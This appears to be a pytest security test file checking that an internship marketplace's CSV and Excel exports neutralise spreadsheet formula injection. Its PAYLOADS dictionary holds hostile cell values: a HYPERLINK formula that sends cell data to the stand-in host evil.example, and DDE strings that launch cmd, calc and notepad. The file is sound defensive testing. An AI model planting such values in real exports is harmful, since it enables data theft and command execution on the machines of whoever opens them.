"""Abuse case (issue 13, finding 7): spreadsheet formula injection. An organisation names
itself ``=HYPERLINK(...)``, a person ``@SUM(...)``, an industry is typed as
``+1+cmd|...``; the finance office opens the export in Excel. Every cell that begins like
a formula (``= + - @``, tab, carriage return) comes back as text with a leading quote, and
the Excel file stores it as text, never a formula."""
from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from marketplace.fairs.report import report_csv
from marketplace.spreadsheets import safe_cell
from tests.security.helpers import claim, login

PAYLOADS = {
    "org": '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")',
    "person": "@SUM(1+1)*cmd|' /C calc'!A0",
    "industry": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C notepad'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def test_every_formula_start_is_neutralised_and_other_values_are_kept():
    for text in PAYLOADS.values():
        assert safe_cell(text) == "'" + text
    assert safe_cell("抚顺机械有限公司") == "抚顺机械有限公司" and safe_cell("") == ""
    assert safe_cell(-5) == -5 and safe_cell(None) is None  # numbers stay numbers


@pytest.fixture
def poisoned(db, make):
    org = make.org(name=PAYLOADS["org"], district="望花区", industry=PAYLOADS["industry"])
    hr = make.user("employer", organisation=org)
    person = make.profile(name=PAYLOADS["person"], district="望花区")
    claim(db, org, person, hr, flags=[{"code": "x", "zh": PAYLOADS["minus"], "en": "x"}])
    make.posting(organisation=org, created_by=hr, district="望花区")
    return make.user("caseworker", district="望花区")


def cells_of_csv(body: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for c in row]


def assert_neutralised(cells, *payloads):
    for p in payloads:
        assert "'" + p in cells, (p, cells)
    for c in cells:
        assert not (isinstance(c, str) and c[:1] in ("=", "+", "@", "\t", "\r")), c


def test_the_claims_export_neutralises_formulas_in_csv(client, make, poisoned):
    for r in (client.get("/api/v1/internships/claims/export?format=csv", headers=make.token(poisoned)),):
        assert r.status_code == 200
        assert_neutralised(cells_of_csv(r.data), PAYLOADS["org"], PAYLOADS["person"], PAYLOADS["minus"])
    page = client.application.test_client()
    login(page, poisoned)
    r = page.get("/caseworker/claims/export.csv")
    assert r.status_code == 200
    assert_neutralised(cells_of_csv(r.data), PAYLOADS["org"], PAYLOADS["person"])


def test_the_claims_excel_export_stores_text_never_a_formula(client, make, poisoned):
    for r in (client.get("/api/v1/internships/claims/export?format=xlsx", headers=make.token(poisoned)),):
        assert r.status_code == 200
        ws = load_workbook(io.BytesIO(r.data)).active
        cells = [c for row in ws.iter_rows() for c in row]
        assert all(c.data_type != "f" for c in cells), [c.value for c in cells if c.data_type == "f"]
        values = [c.value for c in cells]
        assert_neutralised(values, PAYLOADS["org"], PAYLOADS["person"], PAYLOADS["minus"])
        amount = ws.cell(row=2, column=8)
        assert amount.value == 1000 and amount.data_type == "n"  # money stays a number


def test_the_welfare_dashboard_csv_neutralises_typed_labels(client, make, poisoned):
    r = client.get("/api/v1/welfare/dashboard?format=csv", headers=make.token(poisoned))
    assert r.status_code == 200
    assert_neutralised(cells_of_csv(r.data), PAYLOADS["industry"])
    page = client.application.test_client()
    login(page, poisoned)
    assert_neutralised(cells_of_csv(page.get("/welfare/dashboard.csv").data), PAYLOADS["industry"])


def test_the_fair_report_csv_neutralises_organisation_names():
    rep = {"groups": [{"group": "graduates", "registered": 3, "checked_in": 2}],
           "booths": [{"organisation": PAYLOADS["org"], "requested": 1, "interviews": 1, "intents": 0, "offers": 0,
                       "hires_30d": 0},
                      {"organisation": PAYLOADS["tab"], "requested": 0, "interviews": 0, "intents": 0, "offers": 0,
                       "hires_30d": 0}]}
    assert_neutralised(cells_of_csv(report_csv(rep).encode("utf-8")), PAYLOADS["org"], PAYLOADS["tab"])
